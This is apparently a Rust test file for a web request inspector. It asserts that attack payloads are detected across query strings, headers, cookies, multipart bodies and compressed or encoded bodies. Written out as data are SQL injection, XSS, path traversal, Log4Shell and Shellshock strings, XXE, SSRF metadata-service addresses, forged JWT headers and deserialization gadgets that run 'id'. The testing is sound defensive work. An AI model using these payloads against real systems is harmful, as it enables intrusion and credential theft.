//! What every part of a request and every way to write it may carry, as whole requests: one test for each kind of carrier and for
//! each class that is about the request as a whole.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests fail by panicking"
)]

use base64::Engine;
use throughline::inspect::{Attack, Body, Cuts, Hit, Inspection, Inspector, Limits, Request};

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";
const XML: &str = "text/xml; charset=utf-8";

fn inspect(request: &Request<'_>) -> Inspection {
    Inspector::new(|_| true, Limits::default()).inspect(request, &|_, _| false)
}

fn hits(request: &Request<'_>) -> Vec<Hit> {
    inspect(request).hits
}

/// The confidence of a class in a request.
fn sure(attack: Attack, request: &Request<'_>) -> u8 {
    hits(request).iter().filter(|hit| hit.attack == attack).map(|hit| hit.confidence).max().unwrap_or_default()
}

fn get<'a>(path: &'a str, query: &'a str) -> Request<'a> {
    Request { method: "GET", host: "api.example.com", path, query, ..Request::default() }
}

fn post<'a>(content_type: &'a str, bytes: &'a [u8]) -> Request<'a> {
    let body = Body { content_type, bytes, ..Body::default() };
    Request { method: "POST", host: "api.example.com", path: "/api/items", body: Some(body), ..Request::default() }
}

fn blocked(attack: Attack, request: &Request<'_>) {
    assert!(sure(attack, request) >= 80, "{attack:?} in {request:?}: {:?}", hits(request));
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// A block of deflate that is stored as it is.
fn stored(text: &str) -> Vec<u8> {
    let length = u16::try_from(text.len()).unwrap();
    [&[1][..], &length.to_le_bytes(), &(!length).to_le_bytes(), text.as_bytes()].concat()
}

#[test]
fn percent_signs_are_undone_twice_and_in_all_their_spellings() {
    for query in [
        "id=1%27%20OR%20%271%27%3D%271",
        "id=1%2527%2520OR%2520%25271%2527%253D%25271",
        "id=1%u0027%20OR%20%u00271%u0027=%u00271",
        "id=1'+OR+'1'='1",
        "id=1%EF%BC%87 OR %EF%BC%871%EF%BC%87=%EF%BC%871",
    ] {
        blocked(Attack::Sqli, &get("/item", query));
    }
    for path in ["/files/..%c0%af..%c0%afetc/passwd", "/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/a/..;/..;/etc/passwd"]
    {
        blocked(Attack::PathTraversal, &get(path, ""));
    }
}

#[test]
fn references_escapes_and_base64_are_undone() {
    for text in [
        "&#60;svg onload=alert(1)&#62;",
        "&lt;svg onload=alert(1)&gt;",
        "\\x3csvg onload=alert(1)\\x3e",
        "\\u003csvg onload=alert(1)\\u003e",
        "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk-",
        "3c737667206f6e6c6f61643d616c6572742831293e",
    ] {
        let body = serde_json::json!({"name": text}).to_string();
        blocked(Attack::Xss, &post(JSON, body.as_bytes()));
    }
}

#[test]
fn bodies_in_utf_16_gzip_and_deflate_are_read_within_bounds_and_brotli_is_marked() {
    let text = r#"{"id":"1' UNION SELECT password FROM users--"}"#;
    let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    blocked(Attack::Sqli, &post(JSON, &utf16));
    let deflated = stored(text);
    let gzip = [&b"\x1f\x8b\x08\0\0\0\0\0\0\x03"[..], &deflated].concat();
    for (content_encoding, bytes) in [("gzip", &gzip), ("deflate", &deflated)] {
        let body = Body { content_type: JSON, content_encoding, bytes, cut: false };
        blocked(Attack::Sqli, &Request { body: Some(body), ..post(JSON, b"") });
    }
    let long = stored(&"x".repeat(60_000));
    let limits = Limits { body: 1_024, decoded: 2_048, ..Limits::default() };
    let body = Body { content_type: "text/plain", content_encoding: "deflate", bytes: &long, cut: false };
    let found = Inspector::new(|_| true, limits).inspect(&Request { body: Some(body), ..post("", b"") }, &|_, _| false);
    assert!(found.cuts.has(Cuts::BODY) || found.cuts.has(Cuts::COMPRESSED), "{:?}", found.cuts);
    let body = Body { content_type: JSON, content_encoding: "br", bytes: b"\x0b\x02\x80", cut: false };
    assert!(inspect(&Request { body: Some(body), ..post(JSON, b"") }).cuts.has(Cuts::ENCODING));
}

#[test]
fn values_of_one_name_are_read_as_a_program_joins_them() {
    blocked(Attack::Sqli, &get("/item", "id=1%20union/*&id=*/select/*&id=*/password/*&id=*/from%20users"));
    blocked(Attack::Xss, &get("/item", "q=<svg%20onload=ale&q=rt(1)>"));
}

#[test]
fn documents_inside_documents_are_read() {
    let inner = serde_json::json!({"filter": {"name": "x' OR 1=1--"}}).to_string();
    let form: String = form_urlencoded::Serializer::new(String::new()).append_pair("q", &inner).finish();
    blocked(Attack::Sqli, &post(FORM, form.as_bytes()));
    let outer = serde_json::json!({"form": form}).to_string();
    blocked(Attack::Sqli, &post(JSON, outer.as_bytes()));
    let soap = r#"<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><Get><id>1' OR '1'='1</id></Get></s:Body></s:Envelope>"#;
    blocked(Attack::Sqli, &post(XML, soap.as_bytes()));
    let xml =
        serde_json::json!({"doc": "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"}).to_string();
    blocked(Attack::Xxe, &post(JSON, xml.as_bytes()));
    let graphql =
        r#"{"query":"query Q($n: String) { a(id: \"1' OR '1'='1\") { b } c(n: $n) { d } }","variables":{"n":"x"}}"#;
    blocked(Attack::Sqli, &Request { path: "/graphql", ..post(JSON, graphql.as_bytes()) });
}

#[test]
fn names_of_files_and_fields_of_a_form_are_read() {
    let part = |head: &str, value: &str| {
        format!("--XX\r\nContent-Disposition: form-data; {head}\r\n\r\n{value}\r\n--XX--\r\n").into_bytes()
    };
    let multipart = "multipart/form-data; boundary=XX";
    for name in ["../../etc/cron.d/x", "shell.php\0.jpg", "..\\..\\inetpub\\x.aspx"] {
        let body = part(&format!("name=\"f\"; filename=\"{name}\""), "x");
        blocked(Attack::PathTraversal, &post(multipart, &body));
    }
    let body = part("name=\"f\"; filename=\"<img src=x onerror=\"alert(1)\">.png\"", "x");
    blocked(Attack::Xss, &post(multipart, &body));
    blocked(Attack::Sqli, &post(multipart, &part("name=\"id\"", "1' OR '1'='1")));
}

#[test]
fn cookies_the_agent_the_referer_and_headers_of_ones_own_are_read() {
    for name in ["user-agent", "referer", "x-tenant", "x-forwarded-for", "accept-language"] {
        blocked(Attack::Jndi, &Request { headers: &[(name, "${jndi:ldap://evil.example/a}")], ..get("/", "") });
    }
    for cookie in ["id=1'%20OR%20'1'%3D'1; a=b", "a=b; id=1' OR '1'='1"] {
        blocked(Attack::Sqli, &Request { headers: &[("cookie", cookie)], ..get("/", "") });
    }
    let referer = "https://shop.example/?q=%3Csvg%20onload%3Dalert(1)%3E";
    blocked(Attack::Xss, &Request { headers: &[("referer", referer)], ..get("/", "") });
    blocked(
        Attack::CommandInjection,
        &Request { headers: &[("user-agent", "() { :; }; /bin/cat /etc/passwd")], ..get("/", "") },
    );
}

#[test]
fn a_body_of_unknown_type_is_read_as_text() {
    for kind in ["", "text/plain", "application/x-own", "application/octet-stream"] {
        blocked(Attack::Jndi, &post(kind, b"a=${jndi:ldap://evil.example/a}"));
    }
}

#[test]
fn line_ends_forge_headers_mails_and_lines_of_a_log() {
    blocked(Attack::CrlfInjection, &get("/go", "to=/a%0d%0aSet-Cookie:%20a=b"));
    blocked(Attack::CrlfInjection, &get("/go", "to=x%0d%0a%0d%0a<script>alert(1)</script>"));
    blocked(Attack::CrlfInjection, &get("/login", "user=bob%0a2024-01-01%2012:00:00%20INFO%20login%20ok%20user=admin"));
    blocked(Attack::CrlfInjection, &post(FORM, b"email=a%40example.com%0d%0aBcc:%20b%40example.com&x=1"));
    // A letter has lines that look like headers.
    let letter = serde_json::json!({"message": "Hi,\r\n\r\nLocation: Berlin\r\nDate: tomorrow\r\n\r\nBye"}).to_string();
    assert_eq!(hits(&post(JSON, letter.as_bytes())).iter().filter(|hit| hit.confidence >= 80).count(), 0);
}

#[test]
fn another_method_behind_the_one_that_was_checked_is_told() {
    for header in ["x-http-method-override", "x-http-method", "x-method-override"] {
        blocked(Attack::ProtocolAnomaly, &Request { headers: &[(header, "DELETE")], ..get("/api/users/5", "") });
    }
    blocked(Attack::ProtocolAnomaly, &get("/api/users/5", "_method=DELETE"));
    // Google's and Microsoft's clients send what their own address lines are too short for.
    let google = Request { headers: &[("x-http-method-override", "GET")], ..post(FORM, b"q=a") };
    assert!(sure(Attack::ProtocolAnomaly, &google) < 50);
}

#[test]
fn graphql_is_measured_in_depth_aliases_batches_and_what_it_asks_of_the_schema() {
    let ask = |query: &str| serde_json::json!({"query": query}).to_string();
    let aliases: String = (0..8).map(|n| format!("a{n}: login(pin: {n}) {{ t }} ")).collect();
    let batch = format!("[{}]", vec![ask("{ me { id } }"); 12].join(","));
    for body in [
        ask(&format!("{}x{}", "{a".repeat(12) + "{", "}".repeat(13))),
        ask(&format!("mutation {{ {aliases} }}")),
        ask("{ __schema { types { name fields { name } } } }"),
        batch,
    ] {
        blocked(Attack::GraphqlAbuse, &Request { path: "/graphql", ..post(JSON, body.as_bytes()) });
    }
    for query in ["{ __typename }", "query { me { id posts(first: 5) { nodes { title author { name } } } } }"] {
        let body = ask(query);
        assert_eq!(hits(&Request { path: "/graphql", ..post(JSON, body.as_bytes()) }), [], "{query}");
    }
}

#[test]
fn headers_of_forged_tokens_are_told_wherever_a_token_is_sent() {
    let token = |header: &str| {
        let of = |text: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text);
        format!("{}.{}.c2ln", of(header), of(r#"{"sub":"5"}"#))
    };
    for header in [
        r#"{"alg":"none"}"#,
        r#"{"alg":"HS256","kid":"../../dev/null"}"#,
        r#"{"alg":"HS256","kid":"x' UNION SELECT 'a"}"#,
        r#"{"alg":"RS256","jku":"https://evil.example/keys"}"#,
        r#"{"alg":"RS256","jwk":{"kty":"RSA","n":"x","e":"AQAB"}}"#,
    ] {
        let token = token(header);
        let bearer = format!("Bearer {token}");
        let cookie = format!("session={token}");
        blocked(Attack::JwtAbuse, &Request { headers: &[("authorization", &bearer)], ..get("/", "") });
        blocked(Attack::JwtAbuse, &Request { headers: &[("cookie", &cookie)], ..get("/", "") });
        let body = serde_json::json!({"token": token}).to_string();
        blocked(Attack::JwtAbuse, &post(JSON, body.as_bytes()));
    }
}

#[test]
fn the_metadata_service_is_known_in_every_spelling_of_its_address() {
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://0xa9.254.0251.254/",
        "http://169.16689662/",
        "http://[::ffff:169.254.169.254]/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://[64:ff9b::a9fe:a9fe]/",
        "http://[fd00:ec2::254]/",
        "http://metadata.google.internal/",
        "http://169.254.169.254.nip.io/",
        "http://100.100.100.200/",
        "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
        "http://trusted.example@169.254.169.254/",
    ] {
        let body = serde_json::json!({"url": url}).to_string();
        blocked(Attack::Ssrf, &post(JSON, body.as_bytes()));
        let query: String = form_urlencoded::Serializer::new(String::new()).append_pair("url", url).finish();
        blocked(Attack::Ssrf, &get("/fetch", &query));
    }
}

#[test]
fn objects_of_five_languages_are_known_as_bytes_in_base64_and_in_hex() {
    let java = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1";
    let net =
        b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00ISystem, Version=4";
    let python = b"\x80\x04\x95\x22\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
    let php = br#"O:8:"Evil_App":1:{s:3:"cmd";s:2:"id";}"#;
    let node = br#"{"a":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#;
    for bytes in [&java[..], net, python, php, node] {
        let encoded = base64(bytes);
        let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
        for text in [&encoded, &hex] {
            let body = serde_json::json!({"state": text}).to_string();
            blocked(Attack::Deserialization, &post(JSON, body.as_bytes()));
            let cookie = format!("state={}", form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>());
            blocked(Attack::Deserialization, &Request { headers: &[("cookie", &cookie)], ..get("/", "") });
        }
    }
}

#[test]
fn members_that_make_somebody_an_administrator_are_told_and_never_blocked() {
    for member in [r#""isAdmin":true"#, r#""role":"admin""#, r#""balance":1000"#] {
        let body = format!(r#"{{"email":"a@example.com",{member}}}"#);
        let request = Request { path: "/api/register", ..post(JSON, body.as_bytes()) };
        let sure = sure(Attack::MassAssignment, &request);
        assert!((1..80).contains(&sure), "{member}: {sure}");
    }
}

#[test]
fn files_left_behind_consoles_and_web_shells_are_probes() {
    for path in
        ["/.env", "/.git/config", "/wp-config.php.bak", "/phpmyadmin/", "/actuator/heapdump", "/backup.sql", "/c99.php"]
    {
        blocked(Attack::Scanner, &get(path, ""));
    }
    blocked(Attack::Scanner, &get("/uploads/x.php", "cmd=id"));
}

#[test]
fn a_hit_shows_the_telling_piece_and_no_credential() {
    let key = format!("sk_live_{}", "4eC39HqLyjWDarjtT1zdp7dc");
    let body = format!(
        r#"{{"password":"hunter2' OR '1'='1","note":"my card 4111 1111 1111 1111 <svg onload=alert('{key}')>"}}"#
    );
    let cookie = "session=abcdef0123456789' UNION SELECT token FROM sessions--";
    let headers = [
        ("cookie", cookie),
        ("authorization", "Basic Ym9iOmh1bnRlcjInIE9SICcxJz0nMQ=="),
        ("x-api-key", "k3y' OR '1'='1"),
    ];
    let found = hits(&Request { headers: &headers, ..post(JSON, body.as_bytes()) });
    assert!(found.iter().filter(|hit| hit.confidence >= 80).count() >= 4, "{found:?}");
    for hit in &found {
        assert!(hit.snippet.len() <= 80, "{hit:?}");
        for secret in ["hunter2", "4111 1111", key.as_str(), "4eC39HqLyjWDarjt", "abcdef0123456789", "k3y"] {
            assert!(!hit.snippet.contains(secret), "{hit:?}");
        }
    }
}
